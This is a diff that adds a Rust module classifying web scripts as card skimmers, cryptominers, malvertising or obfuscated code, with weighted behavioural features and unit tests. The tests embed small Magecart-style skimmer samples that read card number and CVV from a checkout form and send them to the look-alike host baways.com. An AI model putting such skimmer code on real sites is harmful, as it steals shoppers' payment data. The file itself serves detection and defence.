@@ -1,0 +1,539 @@
+//! The skimmer classifier: Magecart-style card theft, cryptojacking, malvertising and
+//! obfuscation, scored from the normalised tree.
+//!
+//! The features are behaviour (from [`signals`]): a source of form data and a network sink in the same
+//!   small function or statement (the skimmer's core), card-like field names, key or submit
+//!   listeners, encoding before sending, checkout gating (a checkout word and a look at
+//!   `location`), an exfiltration host that is new (not in the baseline, not the site) or a
+//!   look-alike of the site's domain, decoders feeding `eval`/`Function`, obfuscator names,
+//!   packed strings, miner vocabulary or WebAssembly plus workers plus sockets, forced
+//!   navigation and pop-unders.
+//!
+//! Each category's score is a logistic function of its features with the weights below (the
+//! model's parameters: they live here, in the repository, tuned on `testdata/corpus/tuning`
+//! only; `tests/corpus.rs` measures them on the held-out set). `risk` is the highest category
+//! score, `malicious` is `risk >= MALICIOUS_THRESHOLD`.
+//!
+//! With a baseline (the previous version of the same script), only the code the new version
+//! adds is scored, and hosts the baseline already named are not new.
+
+use serde::Serialize;
+
+use super::diff::new_units;
+use super::signals::{self, *};
+use super::{line_of, Analysis, Parsed};
+
+/// `risk` at or above which a script is `malicious`.
+pub const MALICIOUS_THRESHOLD: f64 = 0.5;
+
+/// A function or statement larger than this (normalised tokens) is not "one small piece of
+/// code" any more: a source and a sink in it are not evidence of a flow between them. Library
+/// modules that both read forms and send requests are far bigger; skimmers are small.
+pub const FLOW_MAX_TOKENS: usize = 1500;
+
+/// What the classifier is told besides the script.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Context<'a> {
+    /// The site's own host (`www.britishairways.com`): hosts under the same registrable
+    /// domain are first-party, similar ones are look-alikes.
+    pub site: Option<&'a str>,
+}
+
+/// What `parapet scripts classify` prints for one file.
+#[derive(Debug, Clone, Serialize)]
+pub struct Verdict {
+    /// The file as given.
+    pub file: String,
+    /// `risk >= MALICIOUS_THRESHOLD`.
+    pub malicious: bool,
+    /// 0..1, higher is worse.
+    pub risk: f64,
+    /// `magecart`, `cryptojacking`, `malvertising`, `obfuscated`: those scoring at least 0.5.
+    pub categories: Vec<&'static str>,
+    /// Why, in words a person can act on.
+    pub reasons: Vec<String>,
+    /// `whole` (the file) or `added` (what it adds to the baseline).
+    pub scope: &'static str,
+    /// sha256 of the file.
+    pub sha256: String,
+    /// Library and version line, when recognised.
+    pub family: Option<super::Family>,
+    /// Hosts the scored code sends to or names, that are not the site's.
+    pub hosts: Vec<String>,
+    /// Whether the file parsed (otherwise only lexical features were available).
+    pub parsed: bool,
+    /// The non-zero feature values the score was computed from, by name.
+    pub features: std::collections::BTreeMap<&'static str, f64>,
+}
+
+/// The features of the scored code, before weighting.
+#[derive(Debug, Clone, Default)]
+pub struct Features {
+    /// OR of the signals of the scored code.
+    pub signals: Signals,
+    /// A small function or statement with a form-data source and a network sink.
+    pub flow: Option<Flow>,
+    /// Hosts named in the scored code that are not first-party (and, with a baseline, new).
+    pub new_hosts: Vec<String>,
+    /// Hosts that look like the site's domain without being it: (host, site).
+    pub lookalikes: Vec<(String, String)>,
+    /// The code did not parse; features are lexical.
+    pub unparsed: bool,
+    /// Normalised tokens scored (0 when unparsed).
+    pub tokens: usize,
+}
+
+/// Where a source meets a sink.
+#[derive(Debug, Clone)]
+pub struct Flow {
+    /// 1-based line.
+    pub line: usize,
+    /// Its signals.
+    pub signals: Signals,
+}
+
+/// Weights of one category: bias, then one weight per feature, in [`feature_vector`] order.
+struct Weights {
+    name: &'static str,
+    bias: f64,
+    w: [f64; N_FEATURES],
+}
+
+const N_FEATURES: usize = 18;
+
+/// Feature order (documented in docs/scripts-analysis.md).
+const FEATURE_NAMES: [&str; N_FEATURES] = [
+    "flow",          // source and sink in one small unit
+    "card_fields",   // card-like names
+    "key_or_submit", // keystroke / submit listeners
+    "encode",        // btoa, encodeURIComponent, JSON.stringify
+    "new_host",      // a host that is not first-party (or not in the baseline)
+    "lookalike",     // a host that imitates the site
+    "checkout",      // checkout word + location read
+    "eval_decoded",  // eval/Function with a decoder or packed string
+    "obfuscated",    // obfuscator names, packed strings, decoders
+    "miner",         // miner vocabulary
+    "worker_ws",     // Worker + WebSocket (all the more with WebAssembly)
+    "redirect",      // forced navigation
+    "popup",         // window.open from a listener
+    "visitor_check", // user agent / referrer checks
+    "sink",          // any network sink
+    "targeting",     // card fields, a look-alike host, or every field on a checkout page
+    "harvest",       // reads whole forms or every field
+    "hidden_flow",   // a flow whose code also decodes hidden text (a concealed destination)
+];
+
+const MAGECART: Weights = Weights {
+    name: "magecart",
+    bias: -6.0,
+    w: [
+        2.0, 0.3, 0.5, 0.5, 0.8, 2.0, 1.0, 1.0, 0.4, 0.0, 0.0, 0.0, 0.0, 0.0, 0.3, 2.5, 1.0, 2.5,
+    ],
+};
+const CRYPTOJACKING: Weights = Weights {
+    name: "cryptojacking",
+    bias: -4.0,
+    w: [
+        0.0, 0.0, 0.0, 0.0, 0.4, 0.0, 0.0, 0.5, 0.3, 3.2, 2.5, 0.0, 0.0, 0.0, 0.3, 0.0, 0.0, 0.0,
+    ],
+};
+const MALVERTISING: Weights = Weights {
+    name: "malvertising",
+    bias: -4.5,
+    w: [
+        0.0, 0.0, 0.0, 0.0, 0.8, 0.0, 0.0, 1.0, 0.5, 0.0, 0.0, 2.4, 2.0, 1.6, 0.0, 0.0, 0.0, 0.0,
+    ],
+};
+const OBFUSCATED: Weights = Weights {
+    name: "obfuscated",
+    bias: -3.5,
+    w: [
+        0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 3.0, 2.2, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0,
+    ],
+};
+const CATEGORIES: [&Weights; 4] = [&MAGECART, &CRYPTOJACKING, &MALVERTISING, &OBFUSCATED];
+
+/// Obfuscation is a category of its own, but on its own (many sites minify and pack code
+/// legitimately) it never makes a script malicious: its score counts at this fraction.
+const OBFUSCATED_RISK_FACTOR: f64 = 0.6;
+
+/// Scores a script, or with `baseline` the code it adds to the baseline.
+pub fn classify(
+    file: &str,
+    a: &Analysis<'_>,
+    baseline: Option<&Analysis<'_>>,
+    ctx: Context<'_>,
+) -> Verdict {
+    let features = features(a, baseline, ctx);
+    let x = feature_vector(&features);
+    let mut risk: f64 = 0.0;
+    let mut categories = Vec::new();
+    for w in CATEGORIES {
+        let z = w.bias + w.w.iter().zip(&x).map(|(w, x)| w * x).sum::<f64>();
+        let score = sigmoid(z);
+        if score >= MALICIOUS_THRESHOLD {
+            categories.push(w.name);
+        }
+        let counted = if w.name == "obfuscated" {
+            score * OBFUSCATED_RISK_FACTOR
+        } else {
+            score
+        };
+        risk = risk.max(counted);
+    }
+    let risk = (risk * 1000.0).round() / 1000.0;
+    Verdict {
+        file: file.to_owned(),
+        malicious: risk >= MALICIOUS_THRESHOLD,
+        risk,
+        categories,
+        reasons: reasons(&features),
+        scope: if baseline.is_some() { "added" } else { "whole" },
+        sha256: a.sha256.clone(),
+        family: a.family.clone(),
+        hosts: features.new_hosts.clone(),
+        parsed: a.outcome.is_ok(),
+        features: FEATURE_NAMES
+            .iter()
+            .zip(x)
+            .filter(|(_, v)| *v != 0.0)
+            .map(|(k, v)| (*k, v))
+            .collect(),
+    }
+}
+
+fn sigmoid(z: f64) -> f64 {
+    1.0 / (1.0 + (-z).exp())
+}
+
+/// The feature values, in [`FEATURE_NAMES`] order.
+fn feature_vector(f: &Features) -> [f64; N_FEATURES] {
+    let s = f.signals;
+    let has = |bits: Signals| if s & bits != 0 { 1.0 } else { 0.0 };
+    let all = |bits: Signals| if s & bits == bits { 1.0 } else { 0.0 };
+    let b = |v: bool| if v { 1.0 } else { 0.0 };
+    let decoded = s & (DECODE | HIGH_ENTROPY) != 0;
+    let obfuscation = [HEX_NAMES, HIGH_ENTROPY, DECODE]
+        .iter()
+        .filter(|&&bit| s & bit != 0)
+        .count() as f64
+        / 2.0;
+    [
+        b(f.flow.is_some()),
+        has(SRC_CARD),
+        has(SRC_KEY | SRC_SUBMIT),
+        has(ENCODE),
+        b(!f.new_hosts.is_empty() && s & (SINKS | SINK_SRC_ATTR | REDIRECT | POPUP) != 0),
+        b(!f.lookalikes.is_empty()),
+        all(CHECKOUT_WORD | LOCATION),
+        b(s & DYN_EVAL != 0 && decoded),
+        obfuscation.min(1.0),
+        has(MINER),
+        has(WORKER) * has(SINK_WEBSOCKET) * (0.5 + 0.5 * has(WASM)),
+        has(REDIRECT) * (0.5 + 0.5 * has(VISITOR_CHECK | TIMER)),
+        all(POPUP | LISTENER),
+        has(VISITOR_CHECK),
+        has(SINKS),
+        b(s & SRC_CARD != 0
+            || !f.lookalikes.is_empty()
+            || (s & (CHECKOUT_WORD | LOCATION) == CHECKOUT_WORD | LOCATION && s & SRC_FORM != 0)),
+        has(SRC_FORM),
+        b(f.flow.is_some() && s & DECODE != 0),
+    ]
+}
+
+/// Computes the features of `a`, or of what it adds to `baseline`.
+pub fn features(a: &Analysis<'_>, baseline: Option<&Analysis<'_>>, ctx: Context<'_>) -> Features {
+    // A URL works as well as a host.
+    let site = ctx
+        .site
+        .map(|s| signals::url_host(s).unwrap_or_else(|| s.to_owned()))
+        .map(|h| registrable(&h));
+    let baseline_hosts: Vec<String> = match baseline.map(|b| &b.outcome) {
+        Some(Ok(p)) => p.hosts(),
+        Some(Err(_)) => lexical_hosts(baseline.map_or("", |b| b.source)),
+        None => Vec::new(),
+    };
+    let mut f = Features::default();
+    let hosts = match &a.outcome {
+        Ok(p) => {
+            let roots = scored_roots(p, baseline);
+            f.signals = roots.iter().fold(0, |s, &i| s | p.norm.units[i].signals);
+            f.flow = find_flow(p, &roots, a.source);
+            f.tokens = roots
+                .iter()
+                .map(|&i| p.norm.units[i].end - p.norm.units[i].start)
+                .sum();
+            let mut hosts: Vec<String> = roots
+                .iter()
+                .flat_map(|&i| {
+                    p.norm.units[i]
+                        .hosts
+                        .iter()
+                        .map(|&h| p.norm.atom(h).to_owned())
+                })
+                .collect();
+            hosts.sort_unstable();
+            hosts.dedup();
+            hosts
+        }
+        Err(_) => {
+            f.unparsed = true;
+            f.signals = lexical_signals(a.source);
+            lexical_hosts(a.source)
+        }
+    };
+    for h in hosts {
+        let reg = registrable(&h);
+        if site.as_deref() == Some(reg.as_str()) || baseline_hosts.contains(&h) {
+            continue;
+        }
+        if let Some(site) = &site {
+            if looks_alike(&reg, site) {
+                f.lookalikes.push((h.clone(), site.clone()));
+            }
+        }
+        f.new_hosts.push(h);
+    }
+    f
+}
+
+/// The units scored: every top-level unit, or the outermost units the new version adds.
+fn scored_roots(p: &Parsed, baseline: Option<&Analysis<'_>>) -> Vec<usize> {
+    match baseline.map(|b| &b.outcome) {
+        Some(Ok(old)) => {
+            let flags = new_units(p, old);
+            (0..p.norm.units.len())
+                .filter(|&i| flags[i].reported)
+                .collect()
+        }
+        _ => (0..p.norm.units.len())
+            .filter(|&i| p.norm.units[i].parent.is_none())
+            .collect(),
+    }
+}
+
+/// A small unit, under the roots, that reads form data and sends somewhere.
+fn find_flow(p: &Parsed, roots: &[usize], source: &str) -> Option<Flow> {
+    const DATA: Signals = SRC_FORM | SRC_VALUE;
+    let in_scope = |mut i: usize| loop {
+        if roots.contains(&i) {
+            return true;
+        }
+        match p.norm.units[i].parent {
+            Some(parent) => i = parent,
+            None => return false,
+        }
+    };
+    p.norm
+        .units
+        .iter()
+        .enumerate()
+        .filter(|(_, u)| u.end - u.start <= FLOW_MAX_TOKENS)
+        .filter(|(_, u)| u.signals & DATA != 0 && u.signals & SINKS != 0)
+        .find(|(i, _)| in_scope(*i))
+        .map(|(_, u)| Flow {
+            line: line_of(source, u.span.start),
+            signals: u.signals,
+        })
+}
+
+/// The registrable domain, approximately: the last two labels, or three under a short
+/// second-level label of a country code (`co.uk`, `com.au`).
+pub fn registrable(host: &str) -> String {
+    let host = host.trim_end_matches('.').to_ascii_lowercase();
+    let labels: Vec<&str> = host.split('.').collect();
+    let n = labels.len();
+    let take = if n >= 3 && labels[n - 1].len() == 2 && labels[n - 2].len() <= 3 {
+        3
+    } else {
+        2
+    };
+    labels[n.saturating_sub(take)..].join(".")
+}
+
+/// Whether `host` (a registrable domain) imitates `site` (another one): the distinctive
+/// label contains the site's, is contained in it as a subsequence (`baways` in
+/// `britishairways`), or is within two edits of it.
+pub fn looks_alike(host: &str, site: &str) -> bool {
+    let a = host.split('.').next().unwrap_or(host);
+    let b = site.split('.').next().unwrap_or(site);
+    if a == b || a.len() < 4 || b.len() < 4 {
+        return a == b && host != site;
+    }
+    a.contains(b) || b.contains(a) || is_subsequence(a, b) || edit_distance(a, b) <= 2
+}
+
+fn is_subsequence(short: &str, long: &str) -> bool {
+    let mut it = long.chars();
+    short.len() < long.len()
+        && short.chars().all(|c| it.any(|d| d == c))
+        && short.chars().next() == long.chars().next()
+}
+
+fn edit_distance(a: &str, b: &str) -> usize {
+    let b: Vec<char> = b.chars().collect();
+    let mut prev: Vec<usize> = (0..=b.len()).collect();
+    for (i, ca) in a.chars().enumerate() {
+        let mut cur = vec![i + 1; b.len() + 1];
+        for (j, cb) in b.iter().enumerate() {
+            cur[j + 1] = (prev[j] + usize::from(ca != *cb))
+                .min(prev[j + 1] + 1)
+                .min(cur[j] + 1);
+        }
+        prev = cur;
+    }
+    prev[b.len()]
+}
+
+/// Signals read from the words of a text that did not parse.
+pub fn lexical_signals(source: &str) -> Signals {
+    let mut s = 0;
+    for word in source.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$')) {
+        if !word.is_empty() {
+            s |= signals::name_signals(word) | signals::string_signals(word);
+        }
+    }
+    if source.matches("\\x").count() > 20 {
+        s |= HEX_NAMES;
+    }
+    s
+}
+
+/// URL hosts in a text that did not parse.
+pub fn lexical_hosts(source: &str) -> Vec<String> {
+    let mut hosts: Vec<String> = source
+        .match_indices("//")
+        .filter_map(|(i, _)| {
+            let start = source[..i]
+                .rfind(['"', '\'', '`', '(', ' ', '='])
+                .map_or(0, |p| p + 1);
+            signals::url_host(&source[start..])
+        })
+        .collect();
+    hosts.sort_unstable();
+    hosts.dedup();
+    hosts
+}
+
+/// Reasons a person can act on, strongest first.
+fn reasons(f: &Features) -> Vec<String> {
+    let mut r = Vec::new();
+    if let Some(flow) = &f.flow {
+        let sources = describe_bits(flow.signals & SOURCES);
+        let sinks = describe_bits(flow.signals & SINKS);
+        r.push(format!("code at line {} {sources} and {sinks}", flow.line));
+    }
+    for (host, site) in &f.lookalikes {
+        r.push(format!("{host} looks like the site's domain {site}"));
+    }
+    if !f.new_hosts.is_empty() && f.signals & (SINKS | SINK_SRC_ATTR) != 0 {
+        r.push(format!(
+            "sends to hosts new to this script or site: {}",
+            f.new_hosts.join(", ")
+        ));
+    }
+    for bit in [
+        SRC_CARD,
+        SRC_KEY,
+        SRC_SUBMIT,
+        ENCODE,
+        CHECKOUT_WORD,
+        DYN_EVAL,
+        DECODE,
+        HIGH_ENTROPY,
+        HEX_NAMES,
+        MINER,
+        WASM,
+        WORKER,
+        REDIRECT,
+        POPUP,
+        VISITOR_CHECK,
+    ] {
+        if f.signals & bit != 0 {
+            r.push(signals::describe(bit).to_owned());
+        }
+    }
+    if f.unparsed {
+        r.push("did not parse: scored from its words only".to_owned());
+    }
+    r
+}
+
+fn describe_bits(bits: Signals) -> String {
+    let parts: Vec<&str> = (0..64)
+        .map(|i| 1u64 << i)
+        .filter(|b| bits & b != 0)
+        .map(signals::describe)
+        .collect();
+    parts.join(", ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::analyse;
+    use super::*;
+
+    #[test]
+    fn lookalikes() {
+        assert!(looks_alike("baways.com", "britishairways.com"));
+        assert!(looks_alike("neweggstats.com", "newegg.com"));
+        assert!(looks_alike("examp1e.com", "example.com"));
+        assert!(!looks_alike("jquery.com", "britishairways.com"));
+        assert!(!looks_alike("googleapis.com", "newegg.com"));
+        assert_eq!(registrable("www.britishairways.com"), "britishairways.com");
+        assert_eq!(registrable("shop.example.co.uk"), "example.co.uk");
+        let skim =
+            analyse("fetch('https://baways.com/x', {body: document.forms[0].elements[0].value});");
+        for site in [
+            "www.britishairways.com",
+            "https://www.britishairways.com/travel/",
+        ] {
+            let f = features(&skim, None, Context { site: Some(site) });
+            assert_eq!(f.lookalikes.len(), 1, "{site}: {f:?}");
+        }
+    }
+
+    #[test]
+    fn a_skimmer_is_malicious_and_a_helper_is_not() {
+        let skimmer = r#"
+            window.onload = function () {
+              document.getElementById("submitButton").addEventListener("mouseup", function () {
+                var data = { number: document.getElementById("cardNumber").value,
+                             cvv: document.getElementById("cvv").value };
+                var x = new XMLHttpRequest();
+                x.open("POST", "https://baways.com/gateway/app/dataprocessing/api/", false);
+                x.setRequestHeader("Content-Type", "application/json");
+                x.send(JSON.stringify(data));
+              });
+            };"#;
+        let helper = "function add(a, b) { return a + b; } window.add = add;";
+        let ctx = Context {
+            site: Some("www.britishairways.com"),
+        };
+        let v = classify("s.js", &analyse(skimmer), None, ctx);
+        assert!(v.malicious, "{v:#?}");
+        assert!(v.categories.contains(&"magecart"));
+        assert!(
+            v.reasons.iter().any(|r| r.contains("baways.com")),
+            "{:?}",
+            v.reasons
+        );
+        let h = classify("h.js", &analyse(helper), None, ctx);
+        assert!(!h.malicious && h.risk < 0.2, "{h:#?}");
+    }
+
+    #[test]
+    fn with_a_baseline_only_added_code_counts() {
+        let old = "function send(d){ var x = new XMLHttpRequest(); x.open('POST', 'https://api.shop.example/cart'); x.send(d); }";
+        let same = format!("{old}\n// comment only");
+        let v = classify(
+            "n.js",
+            &analyse(&same),
+            Some(&analyse(old)),
+            Context::default(),
+        );
+        assert_eq!(v.scope, "added");
+        assert!(v.risk < 0.1, "{v:#?}");
+    }
+}
